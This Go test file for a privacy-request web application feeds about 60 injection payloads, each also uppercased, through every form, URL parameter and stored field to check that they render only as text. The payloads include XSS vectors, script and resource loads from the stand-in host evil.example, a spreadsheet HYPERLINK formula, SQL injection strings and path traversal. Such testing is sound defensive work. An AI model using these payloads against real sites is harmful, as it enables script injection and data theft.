package web_test

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"habeas/models"
	"habeas/workflows"
)

// payloads are 120 strings that would be code somewhere, each with the canary.
func payloads() []string {
	shapes := []string{
		`<i>%s</i>`, `"><i>%s`, `'><i>%s`, `</textarea><i>%s`, `</title><i>%s`, `</select><i>%s`, `</option><i>%s`, `</script><i>%s`,
		`<script>%s</script>`, `<script src=//evil.example/%s></script>`, `<img src=x onerror=%s>`, `<svg onload=%s>`, `<svg/onload=%s>`, `<body onload=%s>`,
		`<iframe src=javascript:%s>`, `<a href=javascript:%s>x</a>`, `<form action=//evil.example><input name=%s>`, `<base href=//evil.example/%s>`,
		`<meta http-equiv=refresh content="0;url=//evil.example/%s">`, `<link rel=stylesheet href=//evil.example/%s>`, `<style>@import '//evil.example/%s'</style>`,
		`<math><mtext></table><mglyph><style><i>%s`, `<noscript><i>%s`, `<template><i>%s</template>`, `<!--><i>%s-->`, `<![CDATA[<i>%s]]>`, `<?xml <i>%s?>`,
		`{{printf "%%s" "<i>%s"}}`, `{{.Env}}<i>%s`, "{{`<i>%s`}}", `${<i>%s}`, `#{<i>%s}`, `<%%= <i>%s %%>`, `[[<i>%s]]`,
		`javascript:%s`, `data:text/html,<i>%s`, `vbscript:%s`, `" onfocus=%s autofocus x="`, `' onfocus=%s autofocus x='`, "` onfocus=%s autofocus x=`", `x onmouseover=%s`,
		`\"><i>%s`, `\x3ci\x3e%s`, `\u003ci\u003e%s`, `&lt;i&gt;%s`, `&#60;i&#62;%s`, `%%3Ci%%3E%s`, `+ADw-i+AD4-%s`, "<\u0130>%s", "\u2028<i>%s", "\u202e<i>%s", "\ufeff<i>%s",
		`=HYPERLINK("//evil.example/%s")`, `@import %s`, `expression(%s)`, `url(//evil.example/%s)`, `../../%s`, `'; DROP TABLE requests; -- %s`, `" OR 1=1 -- %s`, `%s%%n%%s%%x`,
	}
	var all []string
	for i, shape := range shapes {
		all = append(all, fmt.Sprintf(shape, fmt.Sprintf("canary%d", i)), strings.ToUpper(fmt.Sprintf(shape, fmt.Sprintf("canary%d", i))))
	}
	return all
}

// inert fails the test if a canary became anything but text or the value of a
// field.
func inert(t *testing.T, p *page, payload string) {
	t.Helper()
	for n := range p.doc.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if strings.Contains(strings.ToLower(n.Data), "canary") || slices.Contains([]string{"i", "base", "iframe", "style", "template", "math", "noscript"}, n.Data) {
			t.Errorf("%s: %q became the element <%s>", p.path(), payload, n.Data)
		}
		if n.Data == "svg" && !has(n, "viewbox") && !has(n, "viewBox") {
			t.Errorf("%s: %q became a drawing", p.path(), payload)
		}
		for _, a := range n.Attr {
			if n.Data == "a" && a.Key == "href" && has(n, "hreflang") && strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "//") {
				continue // this page in another language: its own address, encoded
			}
			if (strings.Contains(strings.ToLower(a.Key+a.Val), "canary") || strings.Contains(a.Val, "evil.example")) && (n.Data != "input" || a.Key != "value") {
				t.Errorf("%s: %q became <%s %s=%q>", p.path(), payload, n.Data, a.Key, a.Val)
			}
		}
	}
}

// Whatever is typed into any field stays text, on every page that shows it.
func TestHostileStringsStayText(t *testing.T) {
	t.Parallel()
	all := payloads()
	if len(all) < 120 {
		t.Fatalf("%d payloads", len(all))
	}
	b := newBed(t)
	v := b.visitor()
	typed := map[string][]string{
		"access":              {"name", "email", "own_name", "own_email", "authority", "details", "country", "region", "capacity", "f.scope", "f.categories", "f.from.day", "f.from.month", "f.from.year", "seed"},
		"correction":          {"f.corrections.0.field", "f.corrections.0.current", "f.corrections.0.requested"},
		"testimonial_removal": {"f.places"},
		"disclosure_1798_83":  {"f.year", "f.customer"},
		"referral_removal":    {"f.friend"},
		"objection":           {"f.grounds"},
		"sharing_opt_out":     {"f.stop"},
	}
	forms := map[string]*form{}
	for kind := range typed {
		forms[kind] = v.get("/requests/new/"+kind).form("Continue").fill("capacity", "agent")
	}
	for _, payload := range all {
		for kind, fields := range typed {
			f := forms[kind]
			for _, name := range fields {
				f.values.Set(name, payload)
			}
			// Shown again with what is wrong, and by every other button.
			for _, do := range []string{"review", "add:corrections", payload} {
				f.values.Set("do", do)
				inert(t, v.post("/requests/new/"+kind, f.values), payload)
			}
		}
		inert(t, v.get("/requests?reference="+url.QueryEscape(payload)), payload)
		inert(t, v.get("/?country="+url.QueryEscape(payload)+"&region="+url.QueryEscape(payload)+"&lang="+url.QueryEscape(payload)), payload)
		inert(t, v.get("/requests/HB-0000-0000-00/sent?type="+url.QueryEscape(payload)+"&on="+url.QueryEscape(payload)+"&country="+url.QueryEscape(payload)), payload)
		inert(t, v.get("/requests/HB-0000-0000-00?done="+url.QueryEscape(payload)), payload)
		inert(t, v.get("/requests/"+url.PathEscape(payload)), payload)
		inert(t, v.get("/requests/new/"+url.PathEscape(payload)), payload)
		pending := map[string][]string{"code": {payload}, "text": {payload}, "act": {payload}, "seed": {payload}}
		inert(t, v.post("/requests/HB-0000-0000-00/code", pending), payload)
		inert(t, v.post("/requests/HB-0000-0000-00/messages", pending), payload)
	}
}

// What was stored stays text, too: on the review, on the case page, in the
// answer, in the name of a file.
func TestHostileRequestsStayText(t *testing.T) {
	t.Parallel()
	b := newBed(t)
	v := b.visitor()
	const each = 12
	all := payloads()
	for i := 0; i < len(all); i += each {
		payload := strings.Join(all[i:min(i+each, len(all))], " ")
		f := v.get("/requests/new/correction").form("Continue").fill(
			"name", short(payload), "email", "robin@example.com", "details", payload, "capacity", "agent", "own_name", short(payload), "own_email", "ada@example.com",
			"authority", payload, "f.corrections.0.field", "company", "f.corrections.0.current", payload[:min(len(payload), 400)], "f.corrections.0.requested", short(payload),
		)
		f.values.Set("f.corrections.0.current", strings.ToValidUTF8(f.values.Get("f.corrections.0.current"), ""))
		review := f.press("Continue").want(200, "Check before you send")
		inert(t, review, payload)
		sent := review.form("Send the request").press("Send the request").want(200)
		reference := anyReference.FindString(sent.text())
		own := v.get("/requests/"+reference).form("Open my request").fill("code", b.code(reference)).press("Open my request").want(200, "We have your request")
		inert(t, own, payload)
		inert(t, own.form("Send").fill("text", payload).press("Send").want(200), payload)
		inert(t, own.form("Send").upload(short(payload)+".txt", []byte("a text")).want(200), payload)
		b.do(reference, "ann", workflows.Verify{Level: models.LevelReasonable, Method: "data_points"})
		b.do(reference, "ann", workflows.Start{})
		b.do(reference, "ann", workflows.Ask{Message: payload})
		inert(t, v.get("/requests/"+reference).want(200, "We have a question for you"), payload)
		b.do(reference, "ann", workflows.Resume{})
		b.do(reference, "ann", workflows.Conclude{Message: payload, Items: []workflows.ItemGiven{{No: 1, Outcome: models.OutcomeFulfilled}}})
		inert(t, v.get("/requests/"+reference).want(200, "Done as you asked"), payload)
	}
}

func short(s string) string { return strings.ToValidUTF8(s[:min(len(s), 180)], "") }
